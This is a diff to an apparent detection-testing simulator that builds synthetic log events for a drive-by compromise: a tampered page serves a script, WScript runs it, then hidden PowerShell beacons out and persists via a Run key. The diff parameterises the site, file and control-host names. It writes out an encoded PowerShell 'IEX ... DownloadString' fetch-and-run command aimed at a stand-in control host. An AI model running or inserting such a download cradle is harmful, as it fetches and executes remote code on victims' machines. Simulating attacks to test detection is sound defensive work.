@@ -19,30 +19,57 @@ from watchfloor.testing.company.world import World, every
 _MS = "Microsoft Corporation"
 _SCRIPTS = Program("C:\\Windows\\System32\\wscript.exe", "Microsoft Windows Based Script Host", _MS, "wscript.exe")
 _LSASS = Program("C:\\Windows\\System32\\lsass.exe", "Local Security Authority Process", _MS, "lsass.exe")
-_SITE, _CONTROL, _FILE = "www.moebel-trends.example", "cdn-telemetrie.example", "Katalog_2026-10.js"
 _SYSTEM = "NT AUTHORITY\\SYSTEM"
 _ARCHIVE = "4f1d0a6e9b7c52381f6ad0c3b5e4978210fe6dcab3948572615f0e9d8c7b6a54"
 
 
 @dataclass(frozen=True, slots=True)
 class _Scene:
-    """What the steps share: the world, chance, the victim's machine and account, the control server's address."""
+    """What the steps share.
+
+    Attributes:
+        world: to act in.
+        random: chance of the attack.
+        machine: the victim's.
+        account: the victim's.
+        site: host name of the page that was tampered with.
+        file: name of the script that it gives out.
+        name: host name of the control server.
+        control: its address.
+    """
 
     world: World
     random: Random
     machine: Machine
     account: Account
+    site: str
+    file: str
+    name: str
     control: str
 
 
-def workstation_to_controller(world: World, *, day: int, time: str, victim: str, admin: str, hours: float) -> Attack:
-    """From a page that was tampered with to the copy of the directory; contact is kept for so many hours."""
+def workstation_to_controller(
+    world: World, *, day: int, time: str, victim: str, admin: str, hours: float, site: str, file: str, control: str
+) -> Attack:
+    """From a page that was tampered with to the copy of the directory.
+
+    Args:
+        world: to act in.
+        day: on which it begins.
+        time: at which it begins.
+        victim: account of who looks at the page.
+        admin: account of the administrator whose password is in the memory of the application server.
+        hours: how long contact with the control server is kept.
+        site: host name of the page.
+        file: name of the script that it gives out.
+        control: host name of the control server.
+    """
     attack = Attack("workstation", "A workstation is infected, and the directory is copied from it", "incident", world)
     random, person = world.chance("attack:workstation"), world.person(victim)
     if person.workstation is None:
         raise ValueError(victim)
-    control = anywhere(random, "RU", "home").address
-    scene = _Scene(world, random, person.workstation, world.account(person), control)
+    address = anywhere(random, "RU", "home").address
+    scene = _Scene(world, random, person.workstation, world.account(person), site, file, control, address)
     at = world.week.at(day, time)
     agent = _infected(attack, scene, at)
     _controlled(attack, scene, agent, at + 3 * MINUTE, int(hours * HOUR))
@@ -58,20 +85,20 @@ def _infected(attack: Attack, scene: _Scene, at: int) -> Process:
     address, sysmon = scene.machine.address, world.products.sysmon
     place = anywhere(scene.random, "FR", "hosting").address
     folder = f"C:\\Users\\{scene.account.name}\\Downloads\\"
-    with attack.step(at, "A page that was tampered with gives out a script", "T1189", host, address, _SITE):
+    with attack.step(at, "A page that was tampered with gives out a script", "T1189", host, address, scene.site):
         proxy = world.products.proxy
-        world.products.resolver.query(at, address, _SITE, millis=48)
+        world.products.resolver.query(at, address, scene.site, millis=48)
         proxy.request(
             at + SECOND,
             address,
             scene.account.name,
             "GET",
-            f"http://{_SITE}/herbst/",
+            f"http://{scene.site}/herbst/",
             size=41_200,
             address=place,
             mime="text/html",
         )
-        url = f"http://{_SITE}/herbst/{_FILE}"
+        url = f"http://{scene.site}/herbst/{scene.file}"
         proxy.request(
             at + 20 * SECOND,
             address,
@@ -83,7 +110,7 @@ def _infected(attack: Attack, scene: _Scene, at: int) -> Process:
             mime="application/javascript",
         )
         world.products.ids.file(
-            at + 20 * SECOND, world.server("proxy").address, place, _SITE, f"/herbst/{_FILE}", name=_FILE,
+            at + 20 * SECOND, world.server("proxy").address, place, scene.site, f"/herbst/{scene.file}", name=scene.file,
             magic="ASCII text, with very long lines", size=18_400, sha256=_ARCHIVE,
         )  # fmt: skip
         browser = sysmon.running(
@@ -95,15 +122,15 @@ def _infected(attack: Attack, scene: _Scene, at: int) -> Process:
             ),
             user,
         )
-        sysmon.asked(at, host, browser, _SITE, place)
-        sysmon.wrote(at + 21 * SECOND, host, browser, folder + _FILE)
+        sysmon.asked(at, host, browser, scene.site, place)
+        sysmon.wrote(at + 21 * SECOND, host, browser, folder + scene.file)
     at += 75 * SECOND
     with attack.step(at, "The script is opened and starts an encoded command", "T1059.001", host, scene.account.name):
         explorer = sysmon.running(EXPLORER, user, "C:\\Windows\\Explorer.EXE")
-        command = f'"C:\\Windows\\System32\\WScript.exe" "{folder}{_FILE}"'
+        command = f'"C:\\Windows\\System32\\WScript.exe" "{folder}{scene.file}"'
         logon = world.products.windows.new_logon()
         script = sysmon.started(at, host, explorer, _SCRIPTS, command, user=user, logon=logon, folder=folder)
-        code = f"IEX (New-Object Net.WebClient).DownloadString('https://{_CONTROL}/a')"
+        code = f"IEX (New-Object Net.WebClient).DownloadString('https://{scene.name}/a')"
         encoded = base64.b64encode(code.encode("utf-16-le")).decode()
         command = f'"{POWERSHELL.image}" -nop -w hidden -enc {encoded}'
         world.products.windows.script_block(at + 3 * SECOND, host, scene.account, code)
@@ -118,7 +145,7 @@ def _controlled(attack: Attack, scene: _Scene, agent: Process, at: int, span: in
         "T1071.001",
         host,
         scene.machine.address,
-        _CONTROL,
+        scene.name,
         scene.control,
     ):
         for number, moment in enumerate(every(scene.random, at, at + span, 60, 0.1)):
@@ -128,12 +155,12 @@ def _controlled(attack: Attack, scene: _Scene, agent: Process, at: int, span: in
                 moment,
                 scene.machine.address,
                 scene.account.name,
-                _CONTROL,
+                scene.name,
                 scene.control,
                 size=scene.random.randrange(380, 640),
             )
             if number % 10 == 0:
-                sysmon.asked(moment, host, agent, _CONTROL, scene.control)
+                sysmon.asked(moment, host, agent, scene.name, scene.control)
                 sysmon.connected(moment, host, agent, scene.machine.address, world.server("proxy").address, 3128)
         key = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\TelemetrieDienst"
         sysmon.set_value(
